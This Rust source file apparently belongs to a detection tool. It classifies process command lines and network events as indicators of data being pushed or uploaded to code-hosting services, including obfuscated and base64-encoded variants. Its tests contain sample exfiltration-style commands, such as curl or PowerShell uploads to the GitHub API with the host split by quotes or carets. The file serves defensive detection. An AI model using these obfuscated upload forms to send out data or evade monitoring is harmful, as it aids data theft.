//! The indicators that one process creation gives.

use std::ops::Range;

use super::encoded::decoded;
use super::gh::{GhCommand, gh_command};
use super::git::{GitCommand, GitLine, git_line, helper_url};
use super::hosts::RepositoryHosts;
use super::other_tools::{
    client_upload, lfs_push, program_name, runner_configured, runner_registered, wsl_push,
};
use super::program::Program;
use super::ssh::{SshCommand, ssh_line};
use super::upload_tools::{curl_sends, only_queries, powershell_call, python_sends, upload_word, wget_sends};
use crate::detect::clauses::find_ignoring_case;
use crate::detect::technique::{API_HOSTS, PUSH_HOSTS, PUSH_WORD};
use crate::model::repository::Address;

/// The kind of an indicator. A lead's row shows the activity's first indicator in this order.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[repr(u8)]
pub enum IndicatorKind {
    /// A repository's host, hidden by quotes, carets or by being put together, and a word of sending.
    HiddenUpload,
    /// The same without a word of sending.
    HiddenHost,
    /// A script in base64 that sends to a repository's API.
    EncodedUpload,
    /// curl or wget that sends to a repository's API.
    ToolUpload,
    /// PowerShell or Python that sends to a repository's API.
    ScriptUpload,
    /// gh.exe that uploads.
    GhUpload,
    /// glab, hub, tea or hf that uploads, or gh to a codespace.
    ClientUpload,
    /// gh that sends a file as the text of an issue or a pull request.
    ClientText,
    /// A runner that is registered with a repository.
    RunnerRegistered,
    /// A push within Linux whose command line names a URL.
    WslPushToUrl,
    /// Another push within Linux.
    WslPush,
    /// ssh.exe that asks the other side to take large files.
    LfsUpload,
    /// `git lfs push`.
    LfsPush,
    /// A push whose command line names a repository that the search does not know.
    PushToOtherHost,
    /// `git push`.
    Push,
    /// `git send-pack`.
    SendPack,
    /// ssh.exe with `git-receive-pack`.
    ReceivePack,
    /// A child whose ParentCommandLine is a `git push`.
    PushAsParent,
    /// Another gh.exe.
    Gh,
    /// A script that calls a repository's API, and as far as can be seen only reads.
    ScriptRequest,
    /// A fetch, a pull, a clone.
    Fetch,
    /// The helper with its URL.
    Helper,
    /// A child whose ParentCommandLine is a fetch.
    FetchAsParent,
    /// Event 3 of git's helper or of ssh.exe under git.
    HelperConnection,
    /// Event 3 of gh.exe or GitHub Desktop.
    ClientConnection,
    /// Event 3 of a program of the list to a repository that the list lacks.
    OtherHostConnection,
    /// Event 3 to a reverse name of a repository's address.
    ReverseNameConnection,
    /// Event 3 to an address that another process had just resolved.
    ResolvedElsewhere,
    /// Event 3 or 22 of another runtime or client, for a repository.
    RuntimeConnection,
    /// The same of an unlisted program in a folder where all can write, or of one that runs other people's code.
    SuspectConnection,
    /// The same of any other unlisted program.
    UnlistedConnection,
    /// Event 22 for a repository's name.
    Query,
    /// `git remote add` in the same folder.
    RemoteAdded,
    /// Event 1 that the search itself selects.
    SearchedStart,
    /// Event 3 that the search itself selects.
    SearchedConnection,
}

impl IndicatorKind {
    /// Its bit in a set of kinds.
    #[must_use]
    pub const fn bit(self) -> u64 {
        1 << self as u64
    }
}

/// A indicator in an Event 1.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Indicator {
    /// Its kind.
    pub kind: IndicatorKind,
    /// Its ranges in the command line, in bytes; empty where it is the whole.
    pub matched: Vec<Range<usize>>,
    /// The repository that it names.
    pub address: Option<Address>,
}

impl Indicator {
    pub(super) fn new(kind: IndicatorKind, matched: Vec<Range<usize>>, address: Option<Address>) -> Self {
        Self { kind, matched, address }
    }
}

/// Returns the indicators of a process creation. If the search selects it (`selected`), it reports the event itself:
/// indicators of an upload are skipped, git's own are still returned.
#[must_use]
pub fn indicators(
    program: Program,
    line: &str,
    parent: Option<(Program, &str)>,
    selected: bool,
    hosts: &RepositoryHosts,
) -> Vec<Indicator> {
    let own = hosts.own();
    let mut indicators = Vec::new();
    match program {
        Program::Git => indicators.extend(git_indicator(line, hosts)),
        Program::GitHelper => {
            let address = helper_url(line).and_then(|word| Address::of_remote(&word.text, own));
            indicators.push(Indicator::new(IndicatorKind::Helper, Vec::new(), address));
        }
        Program::Ssh => indicators.extend(ssh_line(line, own).map(|ssh| {
            let kind = match ssh.command {
                SshCommand::ReceivePack => IndicatorKind::ReceivePack,
                SshCommand::LfsUpload => IndicatorKind::LfsUpload,
                SshCommand::UploadPack => IndicatorKind::Fetch,
            };
            Indicator::new(kind, vec![ssh.matched], ssh.address)
        })),
        Program::GitHubCli => indicators.push(match gh_command(line) {
            GhCommand::Uploads(matched) => Indicator::new(IndicatorKind::GhUpload, vec![matched], None),
            GhCommand::Reads => client_upload(&program_name(line), line)
                .unwrap_or_else(|| Indicator::new(IndicatorKind::Gh, Vec::new(), None)),
        }),
        Program::OtherClient => indicators.extend(client_upload(&program_name(line), line)),
        Program::GitLfs => indicators.extend(lfs_push(line)),
        Program::Wsl => indicators.extend(wsl_push(line, own)),
        Program::Runner => indicators.extend(runner_registered(line)),
        _ if selected => {}
        Program::Curl => indicators.extend(tool_indicator(line, curl_sends(line), hosts)),
        Program::Wget => indicators.extend(tool_indicator(line, wget_sends(line), hosts)),
        Program::PowerShell => indicators.extend(powershell_indicator(line, hosts)),
        Program::Python => indicators.extend(python_indicator(line, hosts)),
        Program::Shell => {
            indicators.extend(hidden_indicator(line, hosts).or_else(|| runner_configured(line)));
        }
        Program::GitHubDesktop | Program::Runtime => {}
    }
    if let Some((Program::Git, parent_line)) = parent
        && (program.is_git() || program == Program::Ssh)
    {
        let parent = git_line(parent_line);
        let kind = match parent.act {
            GitCommand::Push | GitCommand::LfsPush => Some(IndicatorKind::PushAsParent),
            GitCommand::Fetch => Some(IndicatorKind::FetchAsParent),
            _ => None,
        };
        let address = parent.url.and_then(|url| Address::of_remote(&url.text, own));
        indicators.extend(kind.map(|kind| Indicator::new(kind, Vec::new(), address)));
    }
    indicators
}

fn git_indicator(line: &str, hosts: &RepositoryHosts) -> Option<Indicator> {
    let GitLine { act, verb, url, .. } = git_line(line);
    let address = url.as_ref().and_then(|url| Address::of_remote(&url.text, hosts.own()));
    let kind = match act {
        GitCommand::Push => match &address {
            Some(address)
                if hosts.knows(&address.host) && find_ignoring_case(line, &address.host).is_none() =>
            {
                IndicatorKind::HiddenUpload
            }
            Some(address) if hosts.knows(&address.host) => IndicatorKind::PushToOtherHost,
            _ => IndicatorKind::Push,
        },
        GitCommand::LfsPush => IndicatorKind::LfsPush,
        GitCommand::SendPack => IndicatorKind::SendPack,
        GitCommand::Fetch => IndicatorKind::Fetch,
        GitCommand::Helper => IndicatorKind::Helper,
        GitCommand::RemoteAdded => IndicatorKind::RemoteAdded,
        GitCommand::Other => return None,
    };
    let matched = verb.into_iter().chain(url).map(|word| word.range).collect();
    Some(Indicator::new(kind, matched, address))
}

fn tool_indicator(line: &str, sends: Option<Range<usize>>, hosts: &RepositoryHosts) -> Option<Indicator> {
    match (sends, hosts.api_in(line)) {
        (Some(sends), Some(api)) => {
            let address = Address::around(line, api.range.start, hosts.own());
            let kind =
                if only_queries(line) { IndicatorKind::ScriptRequest } else { IndicatorKind::ToolUpload };
            Some(Indicator::new(kind, vec![sends, api.range], address))
        }
        (sends, None) => {
            let mut indicator = hidden_indicator(line, hosts)?;
            if sends.is_some() {
                indicator.kind = IndicatorKind::HiddenUpload;
            }
            Some(indicator)
        }
        (None, Some(_)) => None,
    }
}

fn powershell_indicator(line: &str, hosts: &RepositoryHosts) -> Option<Indicator> {
    if let Some(found) = decoded(line) {
        let mut indicator = encoded_upload(&found.script, hosts)?;
        indicator.matched = vec![found.range];
        return Some(indicator);
    }
    script_indicator(line, hosts).or_else(|| hidden_indicator(line, hosts))
}

/// Whether a script in base64 meets the search's `api` clause, or sends to an API that the clause does not know.
fn encoded_upload(script: &str, hosts: &RepositoryHosts) -> Option<Indicator> {
    let indicator = |address| Indicator::new(IndicatorKind::EncodedUpload, Vec::new(), address);
    let listed = API_HOSTS.iter().find_map(|host| find_ignoring_case(script, host));
    if let Some(range) = listed.filter(|_| upload_word(script).is_some()) {
        return Some(indicator(Address::around(script, range.start, hosts.own())));
    }
    let found = script_indicator(script, hosts).or_else(|| hidden_indicator(script, hosts))?;
    matches!(found.kind, IndicatorKind::ScriptUpload | IndicatorKind::HiddenUpload)
        .then(|| indicator(found.address))
}

fn script_indicator(text: &str, hosts: &RepositoryHosts) -> Option<Indicator> {
    let api = hosts.api_in(text)?;
    let call = powershell_call(text)?;
    let address = Address::around(text, api.range.start, hosts.own());
    Some(match call.sends {
        Some(sends) if !only_queries(text) => {
            Indicator::new(IndicatorKind::ScriptUpload, vec![call.call, sends, api.range], address)
        }
        _ => Indicator::new(IndicatorKind::ScriptRequest, vec![call.call, api.range], address),
    })
}

fn python_indicator(line: &str, hosts: &RepositoryHosts) -> Option<Indicator> {
    match (python_sends(line), hosts.api_in(line)) {
        (Some(sends), Some(api)) => {
            let address = Address::around(line, api.range.start, hosts.own());
            Some(Indicator::new(IndicatorKind::ScriptUpload, vec![sends, api.range], address))
        }
        (_, None) => hidden_indicator(line, hosts),
        (None, Some(_)) => None,
    }
}

/// A repository's host that only shows once quotes, carets, backticks and concatenations are taken away: an API's, or
/// that of a push.
fn hidden_indicator(line: &str, repositories: &RepositoryHosts) -> Option<Indicator> {
    let plain = without_quoting(line)?;
    let pushes = find_ignoring_case(&plain, PUSH_WORD).is_some();
    let hosts = API_HOSTS.iter().chain(PUSH_HOSTS.iter().filter(|_| pushes));
    let range = hosts
        .filter(|host| find_ignoring_case(line, host).is_none())
        .find_map(|host| find_ignoring_case(&plain, host))?;
    let sends = pushes || upload_word(&plain).is_some();
    let kind = if sends { IndicatorKind::HiddenUpload } else { IndicatorKind::HiddenHost };
    Some(Indicator::new(kind, Vec::new(), Address::around(&plain, range.start, repositories.own())))
}

/// Removes what shells remove; `None` where a text has nothing of the kind.
fn without_quoting(line: &str) -> Option<String> {
    if !line.contains(['^', '`', '"', '\'']) {
        return None;
    }
    let mut plain = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find(['^', '`', '"', '\'']) {
        plain.push_str(rest.get(..at).unwrap_or(""));
        let quote = rest.as_bytes().get(at).copied().unwrap_or(b' ');
        rest = rest.get(at + 1..).unwrap_or("");
        // `'api.git' + 'hub.com'`: the same quote again, after a plus.
        if matches!(quote, b'"' | b'\'')
            && let Some(after) = rest.trim_start().strip_prefix('+')
            && let Some(joined) = after.trim_start().strip_prefix(char::from(quote))
        {
            rest = joined;
        }
    }
    plain.push_str(rest);
    Some(plain)
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine as _;

    fn kinds(program: Program, line: &str) -> Vec<IndicatorKind> {
        let hosts = RepositoryHosts::new(&["git.corp.example".to_owned()]);
        indicators(program, line, None, false, &hosts).into_iter().map(|indicator| indicator.kind).collect()
    }

    fn encoded(script: &str) -> String {
        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn command_line_gives_its_indicators() {
        use IndicatorKind as K;
        use Program as P;
        let table: &[(Program, &str, &[IndicatorKind])] = &[
            (P::Git, "git push origin main", &[K::Push]),
            (P::Git, "git push https://codeberg.org/o/r", &[K::PushToOtherHost]),
            (P::Git, "git push git@git.corp.example:o/r.git", &[K::PushToOtherHost]),
            (P::Git, "git push https://backup.example/o/r", &[K::Push]),
            (P::Git, "git push \"https://git\"\"hub.com/o/r\"", &[K::HiddenUpload]),
            (P::Git, "git stash push", &[]),
            (P::Git, "git fetch origin", &[K::Fetch]),
            (P::Ssh, "ssh git@github.com \"git-receive-pack 'o/r'\"", &[K::ReceivePack]),
            (P::Ssh, "ssh git@github.com \"git-upload-pack 'o/r'\"", &[K::Fetch]),
            (P::Ssh, "ssh admin@server", &[]),
            (
                P::Curl,
                "curl -T x.zip https://uploads.github.com/repos/o/r/releases/1/assets",
                &[K::ToolUpload],
            ),
            (P::Curl, "curl -X PATCH https://api.github.com/graphql", &[K::ToolUpload]),
            (P::Curl, "curl -d @x https://git.corp.example/api/v3/gists", &[K::ToolUpload]),
            (P::Curl, "curl -o x https://api.github.com/repos/o/r/zipball", &[]),
            (P::Curl, "curl -d @x https://example.com/?u=api.github.community", &[]),
            (P::Curl, "curl -d @x https://api.git\"\"hub.com/gists", &[K::HiddenUpload]),
            (P::Curl, "curl -s https://api.git\"\"hub.com/user", &[K::HiddenHost]),
            (P::Wget, "wget --post-file=x https://gitlab.com/api/v4/projects/1/uploads", &[K::ToolUpload]),
            (
                P::PowerShell,
                "powershell irm https://api.github.com/repos/o/r/git/blobs -Me Patch",
                &[K::ScriptUpload],
            ),
            (
                P::PowerShell,
                "powershell -c \"irm https://api.github.com/repos/o/r | select name\"",
                &[K::ScriptRequest],
            ),
            (P::PowerShell, "powershell -c \"$u='api.git'+'hub.com/gists'; irm $u\"", &[K::HiddenUpload]),
            (P::PowerShell, "powershell -File x.ps1", &[]),
            (
                P::Python,
                "python -c \"requests.patch('https://api.github.com/gists/1', json=d)\"",
                &[K::ScriptUpload],
            ),
            (P::Python, "python -m pip install git+https://github.com/o/r", &[]),
            (P::Shell, "cmd /c curl -d @x https://api.git^hub.com/x", &[K::HiddenHost]),
            (P::Shell, "cmd /c curl -X PUT https://api.git^hub.com/x", &[K::HiddenUpload]),
            (P::Shell, "cmd /c \"curl https://api.github.com/x\"", &[]),
            (P::Shell, "cmd /c git push https://git^hub.com/o/r", &[K::HiddenUpload]),
            (P::Shell, "cmd /c git clone https://git^hub.com/o/r", &[]),
            (
                P::Curl,
                "curl -d '{\"query\":\"query{viewer{login}}\"}' https://api.github.com/graphql",
                &[K::ScriptRequest],
            ),
            (
                P::Curl,
                "curl -d '{\"query\":\"mutation{x}\"}' https://api.github.com/graphql",
                &[K::ToolUpload],
            ),
            (P::Curl, "curl -d @q.json https://api.github.com/graphql", &[K::ToolUpload]),
            (P::GitHubCli, "gh gist create x", &[K::GhUpload]),
            (P::GitHubCli, "gh pr list", &[K::Gh]),
            (P::Runtime, "node server.js", &[]),
        ];
        for (program, line, expected) in table {
            assert_eq!(kinds(*program, line), *expected, "{line}");
        }
    }

    #[test]
    fn encoded_script_reads_like_plain() {
        for (script, expected) in [
            ("Invoke-RestMethod https://api.github.com/repos/o/r/contents/x -Method Put", true),
            ("iwr https://gitlab.com/api/v4/projects -Method Patch -Body $b", true),
            ("irm https://api.github.com/repos/o/r/commits", false),
            ("Get-Process", false),
        ] {
            let line = format!("powershell.exe -NoP -enc {}", encoded(script));
            let expected: &[IndicatorKind] = if expected { &[IndicatorKind::EncodedUpload] } else { &[] };
            assert_eq!(kinds(Program::PowerShell, &line), expected, "{script}");
        }
    }

    #[test]
    fn parents_line_gives_an_indicator() {
        let hosts = RepositoryHosts::default();
        let helper = "git remote-https origin https://github.com/o/r.git";
        let found =
            indicators(Program::Git, helper, Some((Program::Git, "git.exe push origin")), false, &hosts);
        let kinds: Vec<_> = found.iter().map(|indicator| indicator.kind).collect();
        assert_eq!(kinds, [IndicatorKind::Helper, IndicatorKind::PushAsParent]);
        assert_eq!(found[0].address.as_ref().unwrap().to_string(), "github.com/o/r");
    }

    #[test]
    fn api_address_names_the_repository() {
        let line = "curl -T x https://api.github.com/repos/owner/name/git/blobs";
        let hosts = RepositoryHosts::default();
        let found = indicators(Program::Curl, line, None, false, &hosts);
        assert_eq!(found[0].address.as_ref().unwrap().to_string(), "github.com/owner/name");
    }
}
